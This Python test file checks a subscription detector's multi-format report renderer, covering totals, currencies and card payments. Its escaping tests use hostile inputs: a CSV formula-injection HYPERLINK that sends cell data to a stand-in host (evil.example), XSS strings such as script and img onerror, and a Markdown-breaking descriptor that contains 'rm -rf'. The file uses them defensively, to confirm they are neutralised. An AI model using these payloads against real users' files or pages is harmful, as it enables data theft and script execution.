"""render_scan in every format: golden files on a small fixed input, injection and escaping.

Regenerate the golden files only on purpose: ``UPDATE_GOLDEN=1 pytest tests/test_report_scan.py``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
from pathlib import Path

import pandas as pd
import pytest

from detector.flags import flag_charges
from detector.report import MONTHLY_FACTOR, SCAN_FORMATS, render_scan
from tests.flagkit import Book

GOLDEN = Path(__file__).parent / "golden" / "report"
AS_OF = "2025-06-30"
SUFFIX = {"table": "txt", "json": "json", "csv": "csv", "markdown": "md", "html": "html"}


def scan_input(merchant: str = "Gym", description: str | None = None):
    b = Book()
    b.stream(b.series("2024-01-15", 18, [15.49] * 14 + [17.99] * 4, merchant="Netflix"))
    dup = b.charge("2025-06-16", 17.99, "Netflix", description=description)
    b.stream(b.series("2023-03-10", 3, 119.0, merchant="Adobe", months=12), frequency="annual")
    weekly = b.series("2025-05-01", 8, 7.0, merchant=merchant, days=7)
    b.stream(weekly, frequency="weekly")
    b.stream(b.series("2024-01-01", 6, 9.99, merchant="Hulu"), status="ended")
    flags = flag_charges(b.tx, b.stream_frame, as_of=AS_OF)
    refunds = [{
        "request_id": "r_1", "transaction_id": dup, "account_id": "acct1", "vendor": "Netflix",
        "channel": "direct", "payment_method": "credit_card", "amount": 17.99,
        "reason": "Duplicate charge", "eligible": True, "eligibility_reason": "reported within 30 days",
        "deadline": "2025-07-16", "steps": ["Sign in", "Open Help"], "documents": ["statement line"],
        "email": {"subject": "Refund", "body": "Please refund"}, "expected_by": "2025-07-09",
        "status": "Candidate", "history": [], "charge_date": "2025-06-16", "flag_type": "duplicate_charge",
    }]
    return b.stream_frame, flags, refunds


@pytest.mark.parametrize("fmt", SCAN_FORMATS)
def test_golden(fmt):
    streams, flags, refunds = scan_input()
    out = render_scan(streams, flags, refunds, fmt, as_of=AS_OF)
    path = GOLDEN / f"scan.{SUFFIX[fmt]}"
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(out + "\n", encoding="utf-8")
    assert out + "\n" == path.read_text(encoding="utf-8")


def test_json_is_what_score_reads():
    streams, flags, refunds = scan_input()
    doc = json.loads(render_scan(streams, flags, refunds, "json", as_of=AS_OF))
    assert set(doc) == {"as_of", "streams", "flags", "refund_requests"} and doc["as_of"] == AS_OF
    assert all(isinstance(s["transaction_ids"], list) for s in doc["streams"])
    assert {(f["type"], f["transaction_id"]) for f in doc["flags"]} == set(zip(flags["type"], flags["transaction_id"]))
    assert doc["refund_requests"][0]["steps"] == ["Sign in", "Open Help"]


def test_table_fits_100_columns_and_totals_active_only():
    streams, flags, refunds = scan_input()
    out = render_scan(streams, flags, refunds, "table", as_of=AS_OF)
    assert max(len(line) for line in out.splitlines()) <= 100
    assert out.index("Suspicious charges") < out.index("Active subscriptions")
    total = round(round(7.0 * MONTHLY_FACTOR["weekly"], 2) + 17.99 + round(119.0 / 12, 2), 2)  # each cost in cents
    assert "Total" in out and f"{total:,.2f}" in out
    assert "Hulu" not in out.split("Active subscriptions")[1]


@pytest.mark.parametrize("fmt", ["table", "markdown", "html"])
def test_payments_to_own_cards_are_not_counted_as_subscriptions(fmt):
    # A checking account paying the Chase card every month: not a plan, and the card's own
    # statement lists what it billed. A catalogue vendor named like a bank stays a plan.
    streams, flags, refunds = scan_input()
    b = Book(account="checking")
    b.stream(b.series("2025-01-26", 6, 900.0, merchant="Chase"))
    # "CHASE CREDIT CRD AUTOPAY": no catalogue vendor, and its lines pay a card (as detection says)
    b.streams[-1].update(vendor=None, evidence="6 charges about every 30 days; its lines pay a card")
    auto = b.stream(b.series("2025-01-03", 6, 389.22, merchant="Chase"))
    b.streams[-1]["vendor"] = "Chase Auto"
    every = pd.concat([streams, b.stream_frame], ignore_index=True)
    out = render_scan(every, flags, refunds, fmt, as_of=AS_OF, limit=0)
    listed = out.split("Active subscriptions")[1].split("Refund requests")[0]
    total = round(round(7.0 * MONTHLY_FACTOR["weekly"], 2) + 17.99 + round(119.0 / 12, 2) + 389.22, 2)
    assert f"{total:,.2f}" in listed and "900.00 a month (Chase 900.00)" in " ".join(listed.split())
    assert listed.count("900.00") == 2 and auto
    doc = json.loads(render_scan(every, flags, refunds, "json", as_of=AS_OF))
    assert len(doc["streams"]) == len(every)  # the data keeps every stream
    # a UK account paying its Barclaycard: pounds are not added to the dollars
    uk = Book(account="monzo")
    uk.stream(uk.series("2025-01-12", 6, 392.95, merchant="Barclaycard"))
    uk.streams[-1]["vendor"] = None
    mixed = pd.concat([every.assign(currency="USD"), uk.stream_frame.assign(currency="GBP")], ignore_index=True)
    md = " ".join(render_scan(mixed, flags, refunds, "markdown", as_of=AS_OF).split())
    assert "900.00 USD + 392.95 GBP a month (Chase 900.00 USD, Barclaycard 392.95 GBP)" in md


def test_exports_say_which_streams_the_total_leaves_out():
    # round-thirty-four audit: JSON and CSV gave payments to one's own cards a monthly_amount
    # and nothing saying the table leaves them out, so the active streams' monthly amounts
    # summed to more than the table's total
    streams, flags, refunds = scan_input()
    b = Book(account="checking")
    b.stream(b.series("2025-01-26", 6, 324.40, merchant="Chase card ending"))
    b.stream(b.series("2025-01-27", 6, 118.13, merchant="American Express"))
    b.stream(b.series("2025-01-02", 6, 105.70, merchant="Target Card SRVC"))
    b.stream(b.series("2025-01-05", 6, 900.0, merchant="Chase"))  # its lines pay a card
    b.streams[-1].update(evidence="6 charges about every 30 days; its lines pay a card")
    b.stream(b.series("2025-01-03", 6, 389.22, merchant="Chase"))
    b.streams[-1]["vendor"] = "Chase Auto"  # a catalogue vendor named like a bank: a plan
    b.stream(b.series("2025-01-31", 6, 2500.0, merchant="Payroll"), direction="inflow")
    cards = {"Chase card ending", "American Express", "Target Card SRVC"}
    every = pd.concat([streams, b.stream_frame.assign(vendor=b.stream_frame["vendor"].where(
        b.stream_frame["vendor"] == "Chase Auto"))], ignore_index=True)
    table = render_scan(every, flags, refunds, "table", as_of=AS_OF, limit=0)
    total = round(round(7.0 * MONTHLY_FACTOR["weekly"], 2) + 17.99 + round(119.0 / 12, 2) + 389.22, 2)
    assert f"Total {total:,.2f}" in " ".join(table.split())
    doc = json.loads(render_scan(every, flags, refunds, "json", as_of=AS_OF))
    assert len(doc["streams"]) == len(every)  # every stream kept
    by = {(s["merchant"], s["last_amount"]): s for s in doc["streams"]}
    counted = [s for s in doc["streams"] if s["counted"]]
    assert round(sum(s["monthly_amount"] for s in counted), 2) == total
    active = [s for s in doc["streams"] if s["status"] in ("active", "early")]
    assert round(sum(s["monthly_amount"] or 0 for s in active), 2) == total  # as the table's Per month
    for s in doc["streams"]:
        paid_card = s["merchant"] in cards or (s["merchant"], s["last_amount"]) == ("Chase", 900.0)
        assert (s["not_counted_reason"] == "card_payment") == paid_card, s["merchant"]
        assert s["counted"] == (s["not_counted_reason"] is None) == (s["monthly_amount"] is not None)
    assert by[("Chase", 389.22)]["counted"] and by[("Chase", 389.22)]["monthly_amount"] == 389.22
    assert by[("Hulu", 9.99)]["not_counted_reason"] == "not_active"
    assert by[("Payroll", 2500.0)]["not_counted_reason"] == "inflow"
    rows = [r for r in csv.DictReader(io.StringIO(render_scan(every, flags, refunds, "csv", as_of=AS_OF)))
            if r["record"] == "stream"]
    assert len(rows) == len(every)
    assert round(sum(float(r["monthly_amount"]) for r in rows if r["monthly_amount"]), 2) == total
    assert sorted(r["merchant"] for r in rows if r["not_counted_reason"] == "card_payment") == sorted(cards | {"Chase"})
    assert {r["counted"] for r in rows if r["merchant"] in cards} == {"False"}


def test_a_report_whose_plans_all_pay_cards_says_so():
    # round-eight audit: a dollar and a pound account paying only their cards stopped the table
    # report with a TypeError (an empty total per currency), and the line naming the payments
    # was shown only beside some subscription
    us, uk = Book(account="checking"), Book(account="current")
    us.stream(us.series("2025-01-02", 6, 105.70, merchant="Target Card SRVC"))
    uk.stream(uk.series("2025-01-05", 6, 115.94, merchant="Aqua Card"))
    every = pd.concat([us.stream_frame.assign(currency="USD"), uk.stream_frame.assign(currency="GBP")],
                      ignore_index=True).assign(vendor=None)
    out = " ".join(render_scan(every, None, [], "table", as_of=AS_OF, limit=0).split())
    assert "Active subscriptions: none" in out
    assert "Not listed or counted: 2 payment(s) to cards and banks, 115.94 GBP + 105.70 USD a month" in out


def test_flags_are_severity_ordered():
    streams, flags, refunds = scan_input()
    doc = json.loads(render_scan(streams, flags.iloc[::-1], refunds, "json", as_of=AS_OF))
    ranks = [{"high": 0, "medium": 1, "low": 2}[f["severity"]] for f in doc["flags"]]
    assert ranks == sorted(ranks)


def test_csv_neutralises_formulas():
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    streams, flags, refunds = scan_input(merchant=evil, description="+SUM(A1:A9)")
    refunds[0]["vendor"] = "@cmd"
    out = render_scan(streams, flags, refunds, "csv", as_of=AS_OF)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {r["record"] for r in rows} == {"flag", "stream", "refund_request"}
    cells = [v for r in rows for v in r.values()]
    assert not any(c.startswith(("=", "+", "@")) for c in cells if c)
    assert "'" + evil in cells and "'@cmd" in cells and "'+SUM(A1:A9)" in cells
    # Numbers stay numbers.
    assert all(float(r["amount"]) > 0 for r in rows if r["record"] == "flag")


def test_html_and_markdown_escape_content():
    streams, flags, refunds = scan_input(merchant="<script>alert('x')</script>",
                                         description="<img src=x onerror=alert(1)>")
    streams.loc[0, "merchant"] = "Netflix <b>"
    html = render_scan(streams, flags, refunds, "html", as_of=AS_OF, title="<i>report</i>")
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<i>report</i>" not in html and "<b>" not in html
    md = render_scan(streams, flags, refunds, "markdown", as_of=AS_OF)
    assert "<script>" not in md and "&lt;script&gt;" in md and "&lt;img" in md


#: A descriptor written to break a Markdown report: a heading, emphasis, a code span, a link,
#: a table's pipe, inline HTML and strikethrough.
HOSTILE = "# PAYPAL *NETFLIX* | `rm -rf` [claim refund](http://evil.example) <b>x</b> ~~y~~ _z_ \\"


def _md_inline(text: str) -> list:
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
    return [c for t in tokens if t.type == "inline" for c in t.children]


def test_markdown_shows_a_hostile_descriptor_as_written():
    # round-28 tidy: descriptors and names went into the Markdown report with only pipes and HTML
    # escaped: "*" made emphasis, "[x](y)" a link, a backtick a code span, a leading "#" a heading
    streams, flags, refunds = scan_input(merchant="Gym *" + HOSTILE, description=HOSTILE)
    refunds[0]["vendor"] = HOSTILE
    notes = [{"file": "#1 [a](http://evil.example).csv", "noted_on": "2025-06-01", "message": HOSTILE,
              "note_id": "n_1"}]
    problems = [{"account_id": "acct1", "message": "- " + HOSTILE}]
    md = render_scan(streams, flags, refunds, "markdown", as_of=AS_OF, title=HOSTILE, notes=notes,
                     sync_problems=problems)
    inline = _md_inline(md)
    formatting = {t.type for t in inline} - {"text", "softbreak", "code_inline", "strong_open", "strong_close"}
    assert formatting == set(), formatting
    # our own formatting is kept: the total in bold, the command a note names in a code span
    assert [t.content for t in inline if t.type == "code_inline"] == ["subdetect notes dismiss n_1"]
    assert "**Total per month: " in md
    # every table row has its header's cells, the descriptor whole in one of them
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").enable(["table"]).parse(md)
    rows, cells = [], None
    for t in tokens:
        if t.type == "tr_open":
            cells = []
        elif t.type == "inline" and cells is not None:
            cells.append("".join(c.content for c in t.children))
        elif t.type == "tr_close":
            rows.append(cells)
            cells = None
    assert len(rows) == 3 + len(flags) + 3 + 1  # three headers, the flags, three plans, a request
    widths = {len(r) for r in rows}
    assert widths == {7, 6, 8}
    assert sum(c == HOSTILE for r in rows for c in r) == 2  # the double charge's descriptor, the refund's vendor
    assert any(c == "Gym *" + HOSTILE for r in rows for c in r)
    # and in prose: the title, a note, a sync problem, no heading or list made of them
    assert [t.type for t in MarkdownIt("commonmark").parse(md) if t.type.startswith("heading_open")] \
        == ["heading_open"] * 6
    assert md.splitlines()[0].startswith("# \\# PAYPAL \\*NETFLIX\\*")
    # numbers are left alone
    assert "| 17.99 |" in md and "2025-06-16" in md


def test_empty_scan_and_bad_format():
    for fmt in SCAN_FORMATS:
        out = render_scan(None, None, None, fmt, as_of=AS_OF)
        assert out
    assert json.loads(render_scan(None, None, [], "json", as_of=AS_OF))["flags"] == []
    with pytest.raises(ValueError):
        render_scan(None, None, None, "xml", as_of=AS_OF)


def test_several_accounts_are_told_apart():
    # The same plan paid from two accounts: every human format says which account each line is.
    streams, flags, refunds = scan_input()
    other = streams[streams["merchant"] == "Netflix"].assign(account_id="joint-4821", stream_id="s_other")
    streams = streams.assign(account_id="card-0007")
    streams = pd.concat([streams, other], ignore_index=True)
    flags = flags.assign(account_id="card-0007")
    refunds[0]["account_id"] = "card-0007"
    table = render_scan(streams, flags, refunds, "table", as_of=AS_OF)
    assert max(len(line) for line in table.splitlines()) <= 100
    active = table.split("Active subscriptions")[1].split("Refund requests")[0]
    assert "Account" in active and "joint-4821" in active and "card-0007" in active
    # Flags and refunds carry the account under the merchant, leaving the reason its width.
    suspicious = table.split("Active subscriptions")[0]
    assert "card-0007" in suspicious and "Account" not in suspicious
    assert "card-0007" in table.split("Refund requests")[1]
    md = render_scan(streams, flags, refunds, "markdown", as_of=AS_OF)
    assert md.count("| Account |") == 3
    html = render_scan(streams, flags, refunds, "html", as_of=AS_OF)
    assert html.count("<th>Account</th>") == 3
    # The streams total still spans the columns before "Per month" (now one more).
    assert '<th colspan="4">Total per month</th>' in html


def test_one_account_has_no_account_column():
    streams, flags, refunds = scan_input()
    for fmt in ("table", "markdown", "html"):
        assert "Account" not in render_scan(streams, flags, refunds, fmt, as_of=AS_OF)


def test_terminal_table_caps_each_section_and_says_so():
    streams, flags, refunds = scan_input()
    full = render_scan(streams, flags, refunds, "table", as_of=AS_OF)
    cut = render_scan(streams, flags, refunds, "table", as_of=AS_OF, limit=2)
    n_flags = len(flags)
    assert n_flags > 2
    suspicious = cut.split("Active subscriptions")[0]
    # the heading counts them all; the first two (most severe) are shown; a line says the rest
    assert f"Suspicious charges ({n_flags})" in suspicious
    assert f"and {n_flags - 2:,} more not shown" in suspicious
    # (the table names a flag's type in words: "duplicate charge: ...", round-51 audit)
    assert suspicious.count("duplicate charge") == 1 and "price increase" not in suspicious
    # the monthly total still counts every active plan
    total = full.split("Total")[1].split()[0]
    assert total in cut.split("Active subscriptions")[1]
    assert "more not shown" not in full
    # other formats are never cut
    for fmt in ("json", "csv", "markdown", "html"):
        assert render_scan(streams, flags, refunds, fmt, as_of=AS_OF, limit=1) == \
            render_scan(streams, flags, refunds, fmt, as_of=AS_OF)


def test_streams_of_several_currencies_are_totalled_apart():
    # A GBP account's plans beside a USD card's: pounds and dollars are never added up.
    streams, flags, refunds = scan_input()
    uk = streams[streams["merchant"] == "Netflix"].assign(account_id="monzo", stream_id="s_uk", currency="GBP",
                                                          last_amount=10.99, next_amount=10.99)
    streams = pd.concat([streams.assign(account_id="card", currency="USD"), uk], ignore_index=True)
    for fmt in ("table", "markdown", "html"):
        out = render_scan(streams, flags, refunds, fmt, as_of=AS_OF)
        assert "10.99 GBP" in out and "+ 10.99 GBP" in out and "17.99 USD" in out, fmt
    # flags and refund requests say their currency too (the duplicate is the card's Netflix)
    md = render_scan(streams, flags, [dict(refunds[0], currency="USD")], "markdown", as_of=AS_OF)
    assert "| 17.99 USD |" in md.split("Active subscriptions")[0]
    assert "| 17.99 USD |" in md.split("Refund requests")[1]
    # the terminal keeps its width: the totals go on a line under the table, not in its footer
    table = render_scan(streams, flags, refunds, "table", as_of=AS_OF)
    assert max(len(line) for line in table.splitlines()) <= 100
    assert "Total per month: 58.35 USD + 10.99 GBP" in table  # 7.00 a week is 30.44 a month
    doc = json.loads(render_scan(streams, flags, refunds, "json", as_of=AS_OF))
    assert {s["currency"] for s in doc["streams"]} == {"USD", "GBP"}
    # the exports carry each flag's currency and each active plan's monthly cost, as the table
    # shows them (round-twenty-one audit: neither was in JSON or CSV)
    assert {f["currency"] for f in doc["flags"]} == {"USD"} and len(doc["flags"]) == len(flags)
    monthly = {(s["merchant"], s["currency"]): s["monthly_amount"] for s in doc["streams"]}
    assert monthly[("Gym", "USD")] == 30.44 and monthly[("Netflix", "GBP")] == 10.99
    assert monthly[("Hulu", "USD")] is None  # ended
    rows = list(csv.DictReader(io.StringIO(render_scan(streams, flags, refunds, "csv", as_of=AS_OF))))
    assert {r["currency"] for r in rows if r["record"] == "flag"} == {"USD"}
    assert sorted(r["monthly_amount"] for r in rows if r["record"] == "stream" and r["merchant"] == "Gym") == ["30.44"]
    # one currency: one total, naming it, dollars too (round-56 audit: markdown and html named none)
    one = render_scan(streams[streams["currency"] == "USD"], flags, refunds, "markdown", as_of=AS_OF)
    assert one.split("Total per month")[1].splitlines()[0].startswith(": 58.35 USD**")
    assert "+" not in one.split("Total per month")[1].splitlines()[0]


def test_a_second_currency_on_ended_plans_alone_still_names_currencies_everywhere():
    # The GBP account's only plan has ended: nothing active is in pounds, but its flag is. The
    # report decides "several currencies" once, so the total names its currency as the flags do.
    streams, flags, refunds = scan_input()
    uk = streams[streams["merchant"] == "Netflix"].assign(account_id="monzo", stream_id="s_uk", currency="GBP",
                                                          status="ended")
    streams = pd.concat([streams.assign(account_id="card", currency="USD"), uk], ignore_index=True)
    uk_flag = flags[flags["merchant"] == "Netflix"].head(1).assign(account_id="monzo", stream_id="s_uk",
                                                                   flag_id="f_uk", amount=10.99)
    flags = pd.concat([flags, uk_flag], ignore_index=True)
    md = render_scan(streams, flags, refunds, "markdown", as_of=AS_OF)
    assert "| 10.99 GBP |" in md.split("Active subscriptions")[0]
    total_line = md.split("Total per month")[1].splitlines()[0]
    assert "USD" in total_line and "GBP" not in total_line


def test_refund_requests_are_listed_newest_charge_first():
    streams, flags, refunds = scan_input()
    base = refunds[0]
    many = [dict(base, request_id=rid, charge_date=d, vendor=v)
            for rid, d, v in (("r_a", "2024-07-03", "Adobe"), ("r_b", "2025-02-03", "Netflix"),
                              ("r_c", "2023-12-24", "Apple"), ("r_d", "2024-07-02", "Hulu"))]
    doc = json.loads(render_scan(streams, flags, many, "json", as_of=AS_OF))
    assert [r["charge_date"] for r in doc["refund_requests"]] == ["2025-02-03", "2024-07-03", "2024-07-02",
                                                                 "2023-12-24"]


def test_a_plan_billed_every_four_weeks_costs_thirteen_twelfths_of_its_price_a_month():
    # A UK gym billed every 28 days is a "monthly" stream, but it bills 13 times a year: its
    # monthly cost was shown as its price (twelfth session's audit). A calendar-month plan whose
    # charges straddle February, or a four-weekly plan seen billing only four times, stay at the price.
    b = Book()
    b.stream(b.series("2025-01-03", 8, 24.99, merchant="PureGym", days=28))
    b.stream(b.series("2025-01-31", 6, 10.0, merchant="Spotify"))  # Jan 31, Feb 28, Mar 31, ...
    b.stream(b.series("2025-03-10", 4, 30.0, merchant="HelloFresh", days=28))
    streams = b.stream_frame.assign(status="active")
    # next charges as the detector dates them: 28 days on for a plan billed every four weeks
    streams["next_date"] = ["2025-08-15", "2025-07-31", "2025-06-30"]
    md = render_scan(streams, pd.DataFrame(), [], "markdown", as_of="2025-08-01")
    rows = {line.split("|")[1].strip(): line for line in md.split("Active subscriptions")[1].splitlines()
            if line.startswith("| ") and "Merchant" not in line}
    assert "| 27.17 |" in rows["PureGym"]  # 24.99 * 365.25 / 28 / 12
    assert "| 10.00 |" in rows["Spotify"] and "| 30.00 |" in rows["HelloFresh"]


def test_a_monthly_plan_with_a_double_charge_still_costs_its_price_a_month():
    # a year of Netflix at 15.49 with one double charge: thirteen charges in 335 days, a mean
    # gap of 28 days, read as billed every four weeks, 16.84 a month (round-five audit); a real
    # four-weekly plan, detected from its charges, costs 13/12 of its price
    from detector.recurrence import detect_streams
    from tests.test_recurrence import enriched, monthly_dates, series

    months = monthly_dates(dt.date(2024, 7, 5), 12, day=5)
    weeks = [dt.date(2024, 7, 2) + dt.timedelta(days=28 * k) for k in range(13)]
    rows = (series("NETFLIX.COM", months, 15.49) + series("NETFLIX.COM", [months[6]], 15.49)
            + series("PUREGYM LTD", weeks, 24.99))
    streams = detect_streams(enriched(rows), "2025-06-30")
    md = render_scan(streams, pd.DataFrame(), [], "markdown", as_of="2025-06-30")
    lines = [line for line in md.split("Active subscriptions")[1].splitlines() if line.startswith("| ")]
    assert any("NETFLIX.COM" in line and "| 15.49 | 15.49 |" in line for line in lines)
    assert any("PUREGYM LTD" in line and "| 24.99 | 27.17 |" in line for line in lines)


def test_a_double_charge_in_february_does_not_make_a_monthly_plan_four_weekly():
    # round twenty-three: a gym billed on the 3rd, January 2024 to February 2025, with a double
    # charge on 2025-02-03 cost 27.17 a month: fifteen charges in 397 days (a mean gap of 28.4),
    # and from a February charge the next month's is 28 days on. A plan billed every 28 days to
    # February still costs 13/12 of its price.
    from detector.recurrence import detect_streams
    from tests.test_recurrence import enriched, monthly_dates, series

    months = monthly_dates(dt.date(2024, 1, 3), 14, day=3)
    weeks = [dt.date(2024, 2, 20) - dt.timedelta(days=28 * k) for k in range(13)][::-1]
    weeks = [d + dt.timedelta(days=364) for d in weeks]  # the last on 2025-02-18
    rows = (series("PUREGYM LTD LEEDS", months, 24.99) + series("PUREGYM LTD LEEDS", [months[-1]], 24.99)
            + series("THE GUARDIAN", weeks, 11.99))
    streams = detect_streams(enriched(rows), "2025-02-28")
    md = render_scan(streams, pd.DataFrame(), [], "markdown", as_of="2025-02-28")
    lines = [line for line in md.split("Active subscriptions")[1].splitlines() if line.startswith("| ")]
    assert any("PUREGYM" in line and "| 24.99 | 24.99 |" in line for line in lines), lines
    assert any("THE GUARDIAN" in line and "| 11.99 | 13.03 |" in line for line in lines), lines


def test_a_bill_every_two_months_costs_half_of_it_a_month():
    from detector.recurrence import detect_streams
    from tests.test_recurrence import _two_monthly_bills, enriched

    streams = detect_streams(enriched(_two_monthly_bills()), "2024-12-31")
    assert (streams["frequency"] == "bimonthly").all() and MONTHLY_FACTOR["bimonthly"] == 0.5
    md = render_scan(streams, pd.DataFrame(), [], "markdown", as_of="2024-12-31")
    lines = [line for line in md.split("Active subscriptions")[1].splitlines() if line.startswith("| ")]
    assert any("TERMINIX PEST CONTROL" in line and "| 89.00 | 44.50 |" in line for line in lines)
    # (a bill that varies, seen for a year, costs a twelfth of its last year's six bills, 941.50,
    # not half the mean of its last three, 68.80, a season's: round thirty-six; its last bill,
    # 132.13, is shown as its amount: round twenty-six)
    assert any("CITY OF PALO ALTO UTILITIES" in line and "| 132.13 | 78.46 |" in line for line in lines)
    assert "122.96" in md  # the total: 44.50 + 78.46
    doc = json.loads(render_scan(streams, pd.DataFrame(), [], "json", as_of="2024-12-31"))
    assert {s["frequency"] for s in doc["streams"]} == {"bimonthly"}
    assert "bimonthly" in render_scan(streams, pd.DataFrame(), [], "csv", as_of="2024-12-31")


@pytest.mark.parametrize("merchant, to_card", [
    ("Chase card ending", True),  # Chase checking: "Payment to Chase card ending in 4444"
    ("Capital One Mobile Pymt", True), ("American Express card 1004", True), ("Citi Autopay", True),
    ("Chase Travel Booking", False), ("Discover Museum", False), ("Barclays Center Tickets", False),
    # round-six audit: US and UK card payments the merchant stage leaves named like these
    ("BK of Amer Visa", True), ("Discover DC Pymnts", True), ("Barclaycard US Creditcard", True),
    ("Synchrony Bank", True), ("Mbna", True), ("Capital One Europe", True),
    ("Natwest Loan Repayment", False), ("Halifax Home Insurance", False), ("Barclays Bank PLC Mortgage", False),
    # a bank's name alone may be its mortgage or loan (round-seven audit: "BANK OF AMERICA
    # DES:MORTGAGE" is merchant "Bank of America"): its statement lines decide, in detection
    ("Chase", False), ("Bank of America", False), ("HSBC", False), ("Natwest", False), ("TD Bank", False),
    # round-eight audit: store cards (the shop's name and card words or its card's lender:
    # Synchrony, Citibank N.A., TD) and UK card lenders (NewDay and its brands, Zopa, Virgin Money)
    ("Target Card SRVC", True), ("Best Buy Cbna", True), ("Lowes CC", True), ("Costco Citi Card", True),
    ("Amazon Corp Syf Paymnt", True), ("Paypal Credit", True), ("Aqua Card", True), ("Argos Card", True),
    ("Newday", True), ("Sainsburys Bank CC", True), ("Virgin Money CC", True), ("Zopa Card", True),
    ("John Lewis Card", True), ("Vanquis Bank", True), ("Comenity Capital Bank", True), ("TJX Credit Card", True),
    # ... while the shop's name alone is its purchases (its lines decide, in detection), and its
    # plans, gift cards and other firms sharing a word are no card payments; "CC" alone may be a
    # country club's dues
    ("Target", False), ("Kohls", False), ("Costco Whse", False), ("Amazon", False), ("Tesco Mobile", False),
    ("Amazon Gift Card", False), ("Target Circle 360", False), ("Best Buy Totaltech", False),
    ("Riverside CC", False), ("Very Well Medical", False), ("Aqua Fitness", False), ("Zopa Loan", False),
])
def test_a_payment_to_a_card_is_told_by_its_issuer_and_card_words(merchant, to_card):
    # round-five audit: "Chase card ending" was a 1,461.37-a-month subscription in the total
    from detector.descriptor_words import card_payment_streams  # what the report leaves out

    got = card_payment_streams(pd.DataFrame({"merchant": [merchant], "vendor": [None]}))
    assert bool(got.iloc[0]) is to_card


@pytest.mark.parametrize("fmt", ["table", "markdown", "html"])
def test_expected_dates_that_assume_a_payment_method_say_so_under_the_requests(fmt):
    # sixteenth audit: a generic CSV's account stores no payment method, and its requests' expected
    # dates assumed a credit card without a word; the report points to --payment-method
    streams, flags, refunds = scan_input()
    assumed = [{**refunds[0], "account_id": "generic-acct",
                "timeline": {"payment_method": "credit_card", "payment_method_assumed": True}}]
    out = render_scan(streams, flags, assumed, fmt, as_of=AS_OF, **({"width": 200} if fmt == "table" else {}))
    assert "assume credit card" in out and "generic-acct" in out and "--payment-method" in out
    known = [{**refunds[0], "timeline": {"payment_method": "credit_card", "payment_method_assumed": False}}]
    assert "--payment-method" not in render_scan(streams, flags, known, fmt, as_of=AS_OF)


def test_a_plan_switched_to_yearly_billing_is_listed_at_a_twelfth_of_its_price_a_month():
    # Prime 14.99 a month, then 139.00 for a year: it was one monthly stream "ended", left out of
    # the active list and of the total; now its yearly plan is listed at 11.58 a month
    from detector.pipeline import detect_account
    from tests.test_recurrence import _prime_switch

    streams, flags = detect_account(_prime_switch(), "2024-12-31")
    md = render_scan(streams, flags, [], "markdown", as_of="2024-12-31")
    active = md.split("Active subscriptions")[1]
    lines = [line for line in active.splitlines() if line.startswith("| ")]
    assert any("Amazon Prime" in line and "| annual | 139.00 | 11.58 | 2025-07-12 |" in line for line in lines)
    assert not any("Amazon Prime" in line and "monthly" in line for line in lines)
    assert "27.07" in active  # 15.49 + 11.58
    doc = json.loads(render_scan(streams, flags, [], "json", as_of="2024-12-31"))
    prime = {s["frequency"]: s for s in doc["streams"] if s["merchant"] == "Amazon Prime"}
    assert prime["annual"]["monthly_amount"] == 11.58 and prime["monthly"]["status"] == "ended"


def test_a_report_in_one_currency_other_than_dollars_names_it_in_its_total():
    # round-thirty-nine audit: a Monzo statement's report read "Total 160.37" while its emails
    # said £; a report in dollars alone keeps its plain total in markdown and html (above), and
    # the table names dollars too (round-51 audit: it named no currency anywhere)
    streams, flags, refunds = scan_input()
    gbp = streams.assign(account_id="monzo", currency="GBP")
    table = render_scan(gbp, flags, refunds, "table", as_of=AS_OF)
    total_line = next(line for line in table.splitlines() if line.strip().startswith("Total"))
    assert total_line.split()[-1] == "GBP"
    for fmt in ("markdown", "html"):
        out = render_scan(gbp, flags, refunds, fmt, as_of=AS_OF)
        assert "GBP" in out.split("Total per month")[1].splitlines()[0], fmt
    usd = render_scan(streams.assign(currency="USD"), flags, refunds, "table", as_of=AS_OF)
    assert next(line for line in usd.splitlines() if line.strip().startswith("Total")).split()[-1] == "USD"
